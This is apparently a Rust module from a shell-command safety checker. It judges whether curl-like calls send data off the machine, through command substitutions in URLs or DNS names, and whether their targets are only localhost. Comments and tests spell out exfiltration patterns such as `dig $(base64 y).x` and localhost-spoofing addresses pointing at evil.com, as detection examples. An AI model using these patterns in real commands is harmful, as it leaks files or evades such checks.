//! What a call that reaches another machine gives away: whether it only fetches, and from where.

use shellgate_syntax::{self as syntax, RedirectOperator, Unknown, Value, Why, Word};

use super::Judge;
use crate::calls::{Call, FoundCalls, Stdin};
use crate::effect::{CallEffect, EffectName};
use crate::programs::words::{
    HTTP_CLIENTS, HTTP_METHODS, OTHER_HOST_OPTIONS, PLAIN_FACTS, PROXY_OPTIONS, SENDS_ITS_INPUT,
};
use crate::programs::{Canonical, EffectKind, base_name, understand};

/// The judge reads substitutions in the words of one call up to this much text. More of it counts as sending.
const MAX_WORDS_BYTES: usize = 8192;

/// How many variables that hold the output of commands are remembered.
const MAX_OUTPUTS: usize = 64;

/// Variables that a text sets to the output of commands, each with what is written there.
#[derive(Debug, Default)]
pub(super) struct Outputs {
    all: Vec<(String, String)>,
}

impl Outputs {
    pub(super) fn of(found: &FoundCalls, text: &str) -> Self {
        let assignments = found.calls.iter().flat_map(|call| &call.assignments);
        let written = assignments.filter_map(|one| {
            let (name, value) = one.span.of(text).split_once('=')?;
            let is_output = value.contains("$(") || value.contains('`');
            (name.trim_end_matches('+') == one.name && is_output)
                .then(|| (one.name.clone(), value.to_owned()))
        });
        Self { all: written.take(MAX_OUTPUTS).collect() }
    }

    fn get(&self, name: &str) -> impl Iterator<Item = &str> {
        self.all.iter().filter(move |(own, _)| own == name).map(|(_, value)| value.as_str())
    }
}

impl Judge<'_> {
    /// Says of what a call does on the network whether it sends something, by its words and its input.
    pub(super) fn note_sending(&self, call: &Call, effects: &mut [CallEffect]) {
        if !effects.iter().any(|effect| effect.effect == EffectName::Network) {
            return;
        }
        let is_local = self.reaches_itself(call);
        let sends = !is_local && (self.sends_output(call) || self.sends_input(call));
        for effect in effects.iter_mut().filter(|effect| effect.effect == EffectName::Network) {
            effect.sends = effect.sends && !is_local || sends;
        }
    }

    /// Whether an address of a call holds what another command reads: `curl "http://x/?$(cat y)"`, `dig $(base64 y).x`.
    fn sends_output(&self, call: &Call) -> bool {
        let written = call.words.iter().skip(1).filter(|word| word.value.known().is_none());
        let written: Vec<&str> = written.filter_map(|word| call.written(word)).collect();
        let has_commands = |text: &str| text.contains("$(") || text.contains('`');
        let mut size = 0;
        written.iter().any(|text| {
            let variables = variables_in(text).flat_map(|name| self.outputs.get(name));
            let mut all = [*text].into_iter().chain(variables).filter(|text| has_commands(text));
            all.any(|text| {
                size += text.len();
                size > MAX_WORDS_BYTES || shows_files(text)
            })
        })
    }

    /// Whether a call sends what it reads from its standard input, and there may be something.
    fn sends_input(&self, call: &Call) -> bool {
        let row = |row: &&str| {
            let mut words = row.split(' ');
            words.next() == call.name()
                && words.all(|wanted| call.words.iter().any(|word| word.value.lead().starts_with(wanted)))
        };
        let is_empty = match &call.stdin {
            Stdin::Empty => true,
            Stdin::Text(text) => text.trim().len() <= 1,
            _ => self.is_told_to_end(call),
        };
        !is_empty && SENDS_ITS_INPUT.iter().any(row)
    }

    /// Whether what comes in by a pipe is only a word with which the program ends: `echo Q | openssl s_client`.
    fn is_told_to_end(&self, call: &Call) -> bool {
        let Some([stage]) = self.pipe_of(call) else { return false };
        let text: Vec<&str> = stage.iter().filter_map(|word| word.value.known()).collect();
        text.len() == stage.len()
            && matches!(text.as_slice(), ["echo" | "printf" | "true" | ":", rest @ ..] if rest.concat().len() <= 4)
    }

    /// Whether all addresses of a call are of this machine.
    fn reaches_itself(&self, call: &Call) -> bool {
        let Some(name) = call.name().filter(|name| HTTP_CLIENTS.contains(name)) else { return false };
        let is_proxy = |name: &str| name.to_ascii_lowercase().ends_with("_proxy");
        if self.values.names().any(is_proxy) || call.assignments.iter().any(|one| is_proxy(&one.name)) {
            return false;
        }
        let takes_fields = name != "curl" && name != "wget";
        let mut addresses = 0;
        for part in call.meaning.canonical.iter().skip(1) {
            match part {
                Canonical::Option(option, value) => {
                    let leads_elsewhere =
                        OTHER_HOST_OPTIONS.iter().any(|row| row.split_once(' ') == Some((name, option)));
                    let is_address = |value: &Value| value.known().is_none_or(|text| text.contains("://"));
                    if leads_elsewhere
                        || PROXY_OPTIONS.contains(&option.as_str())
                        || option != "-d"
                            && value
                                .as_ref()
                                .is_some_and(|value| is_address(value) && option.starts_with("--url"))
                    {
                        return false;
                    }
                }
                Canonical::Word(value) => {
                    let text = value.lead();
                    if takes_fields
                        && (HTTP_METHODS.contains(&text) || addresses > 0 && !text.contains("://"))
                    {
                        continue;
                    }
                    addresses += 1;
                    let is_begun = value.known().is_some()
                        || text.split_once("://").map_or(text, |(_, rest)| rest).contains('/');
                    if !is_begun || !is_own_host(text) {
                        return false;
                    }
                }
            }
        }
        addresses > 0
    }
}

/// Whether an address is of this machine.
fn is_own_host(address: &str) -> bool {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host = authority.rsplit('@').next().unwrap_or(authority);
    let host = match host.strip_prefix('[') {
        Some(rest) => rest.split(']').next().unwrap_or(rest),
        None => host.split(':').next().unwrap_or(host),
    };
    let is_address = host.starts_with("127.") && host.parse::<std::net::Ipv4Addr>().is_ok();
    // `:3000` of httpie.
    let is_port = host.is_empty() && authority.starts_with(':');
    // curl reads a backslash otherwise than others, and patterns as several addresses.
    !address.replace("[::1]", "").contains(['\\', '{', '['])
        && (["localhost", "::1", "0.0.0.0"].contains(&host)
            || host.ends_with(".localhost")
            || is_address
            || is_port)
}

/// The variables that a word as it is written has in it.
fn variables_in(written: &str) -> impl Iterator<Item = &str> {
    written.split('$').skip(1).filter_map(|rest| {
        let rest = rest.strip_prefix('{').unwrap_or(rest);
        let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '_').unwrap_or(rest.len());
        rest.get(..end).filter(|name| !name.is_empty())
    })
}

/// Whether a command in a word shows more than plain facts about the machine: the content of files, variables, what other programs say.
fn shows_files(written: &str) -> bool {
    let Ok(found) = syntax::read(&format!(": {written}")) else { return true };
    found.invocations.iter().skip(1).any(|one| {
        let name = one.words.first().and_then(|word| word.value.known()).map(base_name);
        let is_plain = name.is_some_and(|name| PLAIN_FACTS.contains(&name));
        let reads = |word: &Word| !matches!(&word.value, Value::Unknown(Unknown { why: Why::Process, .. }));
        let shows = |effect: &crate::programs::Effect| match &effect.kind {
            EffectKind::Reads(word) => reads(word),
            EffectKind::Inline(..) | EffectKind::Opaque(..) => true,
            _ => false,
        };
        let is_input = one.redirects.iter().any(|redirect| redirect.operator == RedirectOperator::Read);
        !is_plain || is_input || understand(&one.words).effects.iter().any(shows)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn own_hosts() {
        for (address, expected) in [
            ("localhost:3000/api", true),
            ("http://127.0.0.1:3000/api", true),
            ("http://[::1]:8080/", true),
            ("http://app.localhost/", true),
            (":3000/x", true),
            ("http://localhost.evil.com/", false),
            ("http://localhost@evil.com/", false),
            ("http://evil.com/localhost", false),
            ("http://127.0.0.1.evil.com/", false),
            ("http://{localhost,evil.com}/", false),
            ("http://evil.com\\localhost", false),
        ] {
            assert_eq!(is_own_host(address), expected, "{address}");
        }
    }

    #[test]
    fn plain_facts_are_nothing_to_hide() {
        for (written, expected) in [
            ("$(cat x)", true),
            ("a$(base64 < x)b", true),
            ("`cat x`", true),
            ("$(env)", true),
            ("kubectl-$(uname -s)-$(uname -m)", false),
            ("$(uname -s | tr A-Z a-z)", false),
            ("$(date +%F)", false),
        ] {
            assert_eq!(shows_files(written), expected, "{written}");
        }
    }
}
